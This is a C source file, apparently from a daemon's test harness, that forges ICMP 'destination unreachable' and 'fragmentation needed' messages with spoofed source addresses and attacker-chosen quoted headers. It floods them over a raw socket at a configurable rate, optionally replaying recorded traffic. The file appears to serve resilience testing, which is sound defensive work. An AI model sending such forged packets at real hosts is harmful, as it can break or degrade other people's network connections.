/* SPDX-License-Identifier: BSD-3-Clause */
/* attack_icmp.c - "port unreachable", "fragmentation needed" and the like, for
 * datagrams that were never refused.
 *
 * What a daemon believes must come from the host that it sent to and quote what
 * it sent; here the offender, and the quoted bytes, are the attacker's choice.
 */
#include "test/attack.h"

#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <sys/socket.h>

enum { QUOTE_MAX = 520, HEADS = 20 + 8 + 20 + 8 };

static uint16_t checksum(const uint8_t *p, size_t n)
{
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < n; i += 2)
        sum += (uint32_t)p[i] << 8 | p[i + 1];
    if (n % 2 != 0)
        sum += (uint32_t)p[n - 1] << 8;
    while (sum >> 16 != 0)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

/* The headers of the datagram that is said to have been refused. */
static size_t quote_write(const struct attack_options *o, uint8_t *at,
                          const uint8_t *payload, size_t size)
{
    struct iphdr ip = {.version = 4,
                       .ihl = 5,
                       .tot_len = htons((uint16_t)(28 + size)),
                       .ttl = 63,
                       .protocol = IPPROTO_UDP,
                       .saddr = o->to.s_addr,
                       .daddr = o->peer.s_addr};
    struct udphdr udp = {.source = htons(PORT_TOKEN),
                         .dest = htons(o->port),
                         .len = htons((uint16_t)(8 + size))};
    memcpy(at, &ip, sizeof ip);
    ip.check = checksum(at, sizeof ip);
    memcpy(at, &ip, sizeof ip);
    memcpy(at + sizeof ip, &udp, sizeof udp);
    memcpy(at + sizeof ip + sizeof udp, payload, size);
    return sizeof ip + sizeof udp + size;
}

static size_t packet_write(const struct attack_options *o, uint8_t *at,
                           const uint8_t *payload, size_t size)
{
    struct iphdr ip = {.version = 4,
                       .ihl = 5,
                       .ttl = 64,
                       .protocol = IPPROTO_ICMP,
                       .saddr = o->from.s_addr,
                       .daddr = o->to.s_addr};
    struct icmphdr icmp = {.type = ICMP_DEST_UNREACH,
                           .code = (uint8_t)o->code,
                           .un.frag.mtu = htons((uint16_t)o->mtu)};
    uint8_t *message = at + sizeof ip;
    size_t n = sizeof icmp;
    memcpy(message, &icmp, sizeof icmp);
    n += quote_write(o, message + n, payload, size);
    icmp.checksum = checksum(message, n);
    memcpy(message, &icmp, sizeof icmp);
    ip.tot_len = htons((uint16_t)(sizeof ip + n));
    memcpy(at, &ip, sizeof ip);
    return sizeof ip + n;
}

/* What is quoted: nothing behind the headers, random bytes, or what the
 * victim once said to everybody. */
static size_t payload_make(const struct attack_options *o,
                           const struct recording *heard, uint8_t *payload)
{
    if (strcmp(o->kind, "none") == 0)
        return 0;
    if (heard == NULL) {
        random_fill(payload, QUOTE_MAX);
        return 108;
    }
    const struct recorded *r = &heard->packets[random_next() % heard->count];
    size_t size = r->size < QUOTE_MAX ? r->size : QUOTE_MAX;
    memcpy(payload, r->data, size);
    return size;
}

int attack_icmp(const struct attack_options *o)
{
    enum { BATCH = 16 };
    uint8_t packets[BATCH][HEADS + QUOTE_MAX], payload[QUOTE_MAX];
    struct mmsghdr messages[BATCH] = {0};
    struct iovec iovs[BATCH];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = o->to};
    struct recording *heard = strcmp(o->kind, "recorded") == 0
                                  ? recording_read(o->file, o->to)
                                  : NULL;
    int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (fd < 0)
        die("raw socket");
    uint64_t start = clock_ns(), sent = 0;
    while (sent < o->count && clock_ns() - start < o->seconds * 1000000000) {
        unsigned n = o->rate != 0 && o->rate < 1000 ? 1 : BATCH;
        for (unsigned i = 0; i < n; i++) {
            size_t size = payload_make(o, heard, payload);
            iovs[i] = (struct iovec){
                packets[i], packet_write(o, packets[i], payload, size)};
            messages[i].msg_hdr = (struct msghdr){.msg_name = &to,
                                                  .msg_namelen = sizeof to,
                                                  .msg_iov = &iovs[i],
                                                  .msg_iovlen = 1};
        }
        if (sendmmsg(fd, messages, n, 0) > 0)
            sent += n;
        pace(start, sent, o->rate);
    }
    recording_free(heard);
    printf("%llu ICMP packets, %.0f a second\n", (unsigned long long)sent,
           (double)sent * 1e9 / (double)(clock_ns() - start + 1));
    return 0;
}
